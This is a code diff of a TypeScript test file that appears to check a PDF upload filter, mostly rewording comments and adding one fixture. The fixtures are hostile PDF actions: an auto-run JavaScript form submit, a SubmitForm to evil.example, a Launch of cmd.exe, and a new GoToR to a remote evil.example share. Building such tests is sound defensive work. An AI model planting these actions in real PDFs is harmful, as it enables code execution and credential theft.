@@ -29,7 +29,7 @@ function savedAgain(added: string): Buffer {
 
 const hiddenStream = `9 0 obj\n<< ${objectStream} /Filter /FlateDecode /Length 80 >>\nstream\n${deflateSync(`7 0 ${action}`).toString('latin1')}\nendstream\nendobj\n`
 
-/** What says by its name that it is a script, wherever that is found: refused. */
+/** Files whose name marks them as a script: refused. */
 const refused: Record<string, Buffer> = {
   'runs a script when opened': openAction(
     `/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('/api/canary'\\))`,
@@ -61,7 +61,7 @@ const refused: Record<string, Buffer> = {
   ),
 }
 
-/** What may hold a script, or acts on its own: saved and never shown. */
+/** Files that may hold a script or act on their own: saved and never shown. */
 const savedOnly: Record<string, Buffer> = {
   'packs its script twice': packed(`${objectStream} /Filter [/ASCIIHexDecode /FlateDecode]`, (objects) =>
     inHex(deflateSync(objects)),
@@ -95,6 +95,7 @@ const savedOnly: Record<string, Buffer> = {
   'packs the name of its script by digits': samplePdf({ packed: '<< /S <4A617661536372697074> >>' }),
   'is a form that is a program': samplePdf({ catalogue: '/AcroForm << /XFA 8 0 R >>' }),
   'sends a form when opened': openAction('/S /SubmitForm /F (https://evil.example/)'),
+  'opens another file': openAction('/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit]'),
   'starts a program': openAction('/S /Launch /F (cmd.exe)'),
   'holds another file': samplePdf({ catalogue: '/Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>' }),
   'hides an object in a comment': samplePdf({ catalogue: '%8 0 obj << /Type /A >> stream\n' }),
@@ -102,7 +103,7 @@ const savedOnly: Record<string, Buffer> = {
   'nests what no writer nests': samplePdf({ catalogue: `/A ${'['.repeat(5_000)}${']'.repeat(5_000)}` }),
 }
 
-/** What does nothing by itself, or only what the reader asks for. */
+/** Files that do nothing by themselves, or only what the reader asks for. */
 const shown: Record<string, Buffer> = {
   'opens a page when opened': openAction('/S /URI /URI (javascript:alert\\(1\\))'),
   'has a link with signs that disguise elsewhere': samplePdf({
